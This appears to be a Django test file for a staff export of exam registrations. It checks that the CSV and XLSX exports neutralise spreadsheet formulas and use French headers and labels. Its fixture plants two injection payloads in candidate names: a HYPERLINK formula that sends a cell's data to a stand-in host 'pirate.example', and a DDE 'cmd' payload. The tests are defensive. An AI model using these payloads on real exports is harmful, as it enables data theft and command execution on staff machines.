"""Staff exports of the registrations list: what a candidate typed never runs as a formula."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from tests.factories import RegistrationFactory, UserFactory
from tests.text import french_markup

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://pirate.example/?"&C2,"x")'
COLUMNS = ["number", "candidate_name", "candidate_email", "version", "created_at"]


@pytest.fixture
def registration():
    candidate = UserFactory(last_name=HYPERLINK, first_name="+1+cmd|' /C calc'!A0", email="=x@exemple.fr")
    return RegistrationFactory(candidate=candidate, number="2024-000042")


def export(staff_client, file_format):
    """The admin's export form, as staff submit it: format 0 is CSV, 1 is XLSX."""
    response = staff_client.post(reverse("admin:exams_registration_export"), {
        "format": file_format, "export_items": [], **{f"registrationresource_{field}": "on" for field in COLUMNS}})
    assert response.status_code == 200, response.content[:500]
    return response


def csv_rows(staff_client):
    response = export(staff_client, "0")
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def xlsx_sheet(staff_client):
    response = export(staff_client, "1")
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    return openpyxl.load_workbook(io.BytesIO(response.content)).active


def xlsx_cell(sheet, header):
    headers = [cell.value for cell in sheet[1]]
    return sheet.cell(row=2, column=headers.index(header) + 1)


def test_a_name_written_as_a_formula_is_plain_text_in_the_csv_export(staff_client, registration):
    row = csv_rows(staff_client)[0]
    assert row["Candidat"] == "'" + HYPERLINK.upper() + " +1+cmd|' /C calc'!A0"
    assert row["Adresse électronique"] == "'=x@exemple.fr"
    assert row["Numéro d'inscription"] == "2024-000042"  # what does not start like a formula is left as it is


@pytest.mark.parametrize("start", ["=", "==", "+", "-", "@", "\t", "\r"])
def test_every_cell_starting_like_a_formula_gets_an_apostrophe_in_the_csv_export(staff_client, start):
    RegistrationFactory(candidate=UserFactory(last_name=f"{start}1+1"))
    assert csv_rows(staff_client)[0]["Candidat"].startswith("'" + start)


def test_a_name_written_as_a_formula_is_a_plain_string_in_the_xlsx_export(staff_client, registration):
    sheet = xlsx_sheet(staff_client)
    name = xlsx_cell(sheet, "Candidat")
    assert name.data_type == "s" and name.value == HYPERLINK.upper() + " +1+cmd|' /C calc'!A0"
    email = xlsx_cell(sheet, "Adresse électronique")
    assert email.data_type == "s" and email.value == "=x@exemple.fr"
    assert name.quotePrefix  # and it stays text if staff edit the cell


def test_a_doubled_equals_sign_is_a_plain_string_in_the_xlsx_export_too(staff_client):
    RegistrationFactory(candidate=UserFactory(last_name="==1+1"))
    name = xlsx_cell(xlsx_sheet(staff_client), "Candidat")
    assert name.data_type == "s" and name.value.startswith("==1+1")


def test_the_xlsx_export_keeps_numbers_and_dates_native(staff_client, registration):
    sheet = xlsx_sheet(staff_client)
    assert xlsx_cell(sheet, "Version").value == 1
    assert xlsx_cell(sheet, "Créée le").is_date


def test_a_control_character_in_a_name_does_not_break_the_xlsx_export(staff_client):
    RegistrationFactory(candidate=UserFactory(last_name="Mar\x01tin"))
    assert xlsx_cell(xlsx_sheet(staff_client), "Candidat").value.startswith("MAR\N{REPLACEMENT CHARACTER}TIN")


# What French Excel needs: a BOM, « ; », French headers and labels, a French file name.

ALL_COLUMNS = ["number", "candidate_name", "candidate_email", "specialty_name", "option_code", "pathway", "status",
               "version", "pieces_missing", "handicap", "created_at", "locked_at"]
FRENCH_HEADERS = ["Numéro d'inscription", "Candidat", "Adresse électronique", "Spécialité", "Option", "Voie de préparation",
                  "État", "Version", "Pièces manquantes", "Handicap", "Créée le", "Validée le"]


@pytest.fixture
def apprentice():
    candidate = UserFactory(last_name="Lefèvre", first_name="Zoé")
    return RegistrationFactory(candidate=candidate, number="2024-000007", pathway="apprentissage", status="locked",
                               handicap=True, pieces_missing=0)


def export_all(staff_client, file_format):
    return staff_client.post(reverse("admin:exams_registration_export"), {
        "format": file_format, "export_items": [], **{f"registrationresource_{field}": "on" for field in ALL_COLUMNS}})


def test_the_csv_export_starts_with_a_utf8_bom_and_separates_cells_with_semicolons(staff_client, apprentice):
    content = export_all(staff_client, "0").content
    assert content.startswith(b"\xef\xbb\xbf")
    header = content[3:].decode("utf-8").splitlines()[0]
    assert header.split(";") == FRENCH_HEADERS


def test_the_csv_export_gives_labels_in_french_not_codes(staff_client, apprentice):
    from django.utils import timezone

    content = export_all(staff_client, "0").content.decode("utf-8-sig")
    row = next(csv.DictReader(io.StringIO(content), delimiter=";"))
    assert row["Candidat"] == "LEFÈVRE Zoé"
    assert row["Voie de préparation"] == "Apprentissage"
    assert row["État"] == "Validée définitivement"
    assert row["Handicap"] == "Oui"
    assert row["Pièces manquantes"] == "0"
    assert row["Créée le"] == timezone.localtime(apprentice.created_at).strftime("%d/%m/%Y %H:%M")
    assert "apprentissage" not in content and "locked" not in content and "True" not in content


def test_an_unanswered_yes_no_question_is_empty_and_a_no_is_non(staff_client):
    RegistrationFactory(handicap=False)
    RegistrationFactory(handicap=None)
    rows = list(csv.DictReader(io.StringIO(export_all(staff_client, "0").content.decode("utf-8-sig")), delimiter=";"))
    assert sorted(row["Handicap"] for row in rows) == ["", "Non"]


def test_the_xlsx_export_has_the_same_french_columns_and_labels(staff_client, apprentice):
    response = export_all(staff_client, "1")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert [cell.value for cell in sheet[1]] == FRENCH_HEADERS
    assert xlsx_cell(sheet, "Voie de préparation").value == "Apprentissage"
    assert xlsx_cell(sheet, "État").value == "Validée définitivement"
    assert xlsx_cell(sheet, "Handicap").value == "Oui"


@pytest.mark.parametrize(("file_format", "extension"), [("0", "csv"), ("1", "xlsx")])
def test_the_exported_file_is_named_in_french_with_the_day(staff_client, apprentice, file_format, extension):
    from django.utils import timezone

    disposition = export_all(staff_client, file_format)["Content-Disposition"]
    assert f'filename="inscriptions-{timezone.localdate():%Y-%m-%d}.{extension}"' in disposition


def test_the_export_page_lists_the_columns_by_their_french_names(staff_client):
    page = staff_client.get(reverse("admin:exams_registration_export")).content.decode()
    for header in ["Numéro d&#x27;inscription", "Voie de préparation", "État", "Pièces manquantes", "Tout sélectionner",
                   "Colonnes du fichier exporté"]:
        assert header in page
    assert french_markup('<option value="0" selected>CSV (séparateur « ; », pour Excel)</option>') in page
    for code_name in ["Pathway", "Pieces Missing", "Select all", "---"]:
        assert code_name not in page


def test_the_export_page_is_import_exports_own_with_only_its_two_fixes():
    """templates/admin/import_export/export.html copies the library's page: an upgrade that changes
    the library's page shows here, so the copy is brought up to date instead of hiding the change."""
    from pathlib import Path

    import import_export
    from django.conf import settings

    upstream = (Path(import_export.__file__).parent / "templates/admin/import_export/export.html").read_text()
    ours = (settings.BASE_DIR / "templates/admin/import_export/export.html").read_text()
    extends, ours = ours.split("\n", 1)
    ours = extends + "\n" + ours.split("{% endcomment %}\n", 1)[1]
    fixes = {' id="select-all-toggle"\n                    checked>': ' \n                    onchange="onSelectToggleChange(event)" checked>',
             "{{ form.media }}\n<script src=\"{% static 'portal/js/export_select_all.js' %}\" defer></script>\n": "{{ form.media }}\n",
             "{% load i18n static %}": "{% load i18n %}",
             'class="default" value="{% translate "Export" %}"': 'class="default" value="{% translate "Submit" %}"'}
    for fixed, original in fixes.items():
        assert ours.count(fixed) == 1
        ours = ours.replace(fixed, original)
    assert ours == upstream
